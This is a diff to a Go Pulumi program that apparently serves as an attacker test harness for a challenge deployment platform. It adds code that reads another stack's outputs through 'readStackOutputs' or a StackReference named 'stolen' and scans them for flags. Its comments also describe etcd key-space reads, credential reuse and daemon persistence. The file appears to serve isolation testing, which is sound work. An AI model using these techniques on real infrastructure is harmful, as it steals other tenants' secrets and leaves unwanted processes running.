@@ -14,8 +14,14 @@
 //     read etcd's whole key space over gRPC (additional["etcd"]) and start an anonymous
 //     push to the registry (additional["registry"]), with whatever credentials it found in
 //     environments;
+//   - read another stack's outputs through the engine (additional["stackref"], a stack
+//     name): the `pulumi:pulumi:readStackOutputs` function, which the engine answers
+//     from the backend for any stack;
 //   - leave daemons behind: a `setsid` child and a double-forked grandchild of its own
 //     binary, and `setsid sleep`, each with additional["marker"] in its command line.
+//
+// additional["mode"] = "stackref" deploys a StackReference to additional["stackref"] and
+// exports its outputs as connection_info (a refused reference fails the deployment).
 //
 // additional["service"] = "yes" also deploys a challfn-local Service (so that a resource
 // provider runs during the deployment), and additional["sleep"] (a Go duration) makes
@@ -80,11 +86,35 @@ func main() {
 			if ctx.DryRun() {
 				break
 			}
-			b, err := json.Marshal(attack(additional))
+			r := attack(additional)
+			if name := additional["stackref"]; name != "" {
+				var out struct {
+					Outputs map[string]any `pulumi:"outputs"`
+				}
+				err := ctx.Invoke("pulumi:pulumi:readStackOutputs", map[string]any{"name": name}, &out)
+				b, _ := json.Marshal(out.Outputs)
+				r.StackRef = outcome(string(b), err)
+				for _, f := range flagRE.FindAll(b, -1) {
+					if !contains(r.Flags, string(f)) {
+						r.Flags = append(r.Flags, string(f))
+					}
+				}
+			}
+			b, err := json.Marshal(r)
 			if err != nil {
 				return err
 			}
 			info = string(b)
+		case "stackref":
+			ref, err := pulumi.NewStackReference(ctx, "stolen", &pulumi.StackReferenceArgs{Name: pulumi.String(additional["stackref"])})
+			if err != nil {
+				return err
+			}
+			ctx.Export("connection_info", ref.Outputs.ApplyT(func(o map[string]any) string {
+				b, _ := json.Marshal(o)
+				return string(b)
+			}).(pulumi.StringOutput))
+			return nil
 		case "chatty":
 			if err := chatter(ctx, additional); err != nil {
 				return err
@@ -122,6 +152,7 @@ type Report struct {
 	Daemons   []string          `json:"daemons"`
 	Found     []string          `json:"found"` // credentials found in environments
 	Self      string            `json:"self"`  // its own executable
+	StackRef  string            `json:"stackRef"`
 }
 
 const maxValue = 2048
